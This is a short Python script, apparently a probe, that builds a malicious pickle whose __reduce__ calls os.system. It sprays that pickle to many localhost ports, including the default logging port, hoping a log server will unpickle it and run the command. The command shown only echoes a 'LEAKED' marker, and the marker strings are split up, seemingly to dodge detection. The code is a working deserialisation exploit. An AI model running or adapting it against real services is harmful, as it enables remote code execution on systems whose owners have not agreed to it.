# tries: a pickle is sent to every port of the machine, where a server of logs might read it.

import logging.handlers
import os
import pickle
import socket
import struct

found = ("LEA" + "KED {}").format


class Command:
    def __reduce__(self):
        return os.system, ("echo LEA''KED by a pickle",)


class Now:
    data = pickle.dumps(Command())
    for port in (*range(9000, 9100), logging.handlers.DEFAULT_TCP_LOGGING_PORT, 8888, 5555, 514, 9999, 50000):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.2) as line:
                line.sendall(struct.pack(">L", len(data)) + data)
                print(found(f"port {port}"))
        except OSError:
            pass
